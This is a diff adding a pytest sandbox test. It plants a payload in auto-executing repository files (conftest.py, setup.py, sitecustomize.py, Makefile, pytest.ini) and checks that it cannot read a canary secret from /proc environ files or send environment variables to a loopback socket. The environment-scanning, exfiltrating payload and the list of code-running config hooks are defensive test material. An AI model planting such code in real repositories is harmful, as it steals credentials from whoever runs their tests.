@@ -7,6 +7,7 @@ import stat
 import sys
 from collections.abc import AsyncIterator, Callable, Iterator, Sequence
 from pathlib import Path
+from typing import Final
 
 import pytest
 
@@ -491,3 +492,48 @@ client.send(b"loopback"); print(server.accept()[0].recv(20).decode())
     outcome = await run(program, copy)
 
     assert outcome.output == "thread\nchild\n[1, 2]\nloopback\n"
+
+
+REACHING: Final = """import os, socket, pathlib
+found = []
+for each in pathlib.Path("/proc").glob("*/environ"):
+    try:
+        found += [str(each)] if b"%s" in each.read_bytes() else []
+    except OSError:
+        pass
+try:
+    socket.create_connection(("127.0.0.1", %d), timeout=1).sendall(repr(os.environ).encode())
+    found.append("REACHED")
+except OSError:
+    pass
+print("RAN", "%s", found)
+"""
+# What else than its code decides what is run when a repository is tested; `{}` is Python.
+CONFIGURED: Final = {
+    "conftest.py": ("python -m pytest -q -s", "{}"),
+    "setup.py": ("python setup.py", "{}"),
+    "sitecustomize.py": ("python -c ''", "{}"),
+    "Makefile": ("make test || sh -c \"$(sed -n 's/^\\t//p' Makefile)\"", "test:\n\tpython evil.py\n"),
+    "pytest.ini": ("python -m pytest -q -s", "[pytest]\naddopts = -p evil\n"),
+    "evil.py": ("python evil.py", "{}"),
+}
+
+
+@pytest.mark.parametrize("name", CONFIGURED)
+async def test_rc_01_a_configuration_that_is_code_reaches_nothing(
+    name: str, copy: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("BOT_SECRET", CANARY)
+    command, content = CONFIGURED[name]
+    with socket.create_server(("127.0.0.1", 0)) as sink:
+        evil = REACHING % (CANARY, sink.getsockname()[1], name)
+        (copy / "evil.py").write_text(evil)
+        (copy / name).write_text(content.replace("{}", evil))
+        sandbox = sandbox_at(hierarchy=find_hierarchy())
+
+        outcome = await sandbox.run(["bash", "-c", command], directory=copy, limits=LIMITS)
+
+        sink.setblocking(False)  # noqa: FBT003  the library's way
+        with pytest.raises(BlockingIOError):
+            sink.accept()
+    assert f"RAN {name} []" in outcome.output
